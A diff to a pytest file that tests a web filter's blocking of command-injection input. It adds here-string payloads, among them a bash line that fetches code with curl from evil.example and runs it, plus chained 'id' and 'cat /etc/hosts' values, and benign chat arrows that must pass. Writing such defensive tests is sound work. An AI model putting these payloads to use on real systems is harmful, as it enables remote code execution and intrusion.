@@ -739,3 +739,23 @@ HEADER_CHAINS = ["1;sleep 5", "127.0.0.1;sleep 10", "x;id", "a;cat /etc/hosts"]
 def test_glued_chains_in_a_header_refused(rce_edge, header, value):
     r = requests.get(rce_edge.url + "/api/search?q=x", headers={header: value})
     assert r.status_code == 403, (header, value)
+
+
+# A here-string feeds a word to the command before it: one of the
+# vocabulary's, or any word right after a separator. Between a chat's
+# words, or after nothing, "<<<" is an arrow.
+HERE_STRINGS = ["bash<<<$(curl -s http://evil.example/x)", ";sh <<< 'id'", "x;cat<<<$(id)",
+                "/bin/bash<<<id", "python3 <<< \"import os;os.system('id')\"",
+                ";gcc10.1<<<void main(){}", "x|foo <<< bar"]
+ARROWS = [">>> IMPORTANT <<< bring your passport!!!", "<<< scroll up, I already sent it",
+          "see above <<<", "read x <<< \"$line\""]
+
+
+@pytest.mark.parametrize("value", HERE_STRINGS)
+def test_here_strings_into_a_command_refused(rce_edge, value):
+    assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", ARROWS)
+def test_chat_arrows_pass(edge, value):
+    assert_passes_in_note_and_query(edge, value)
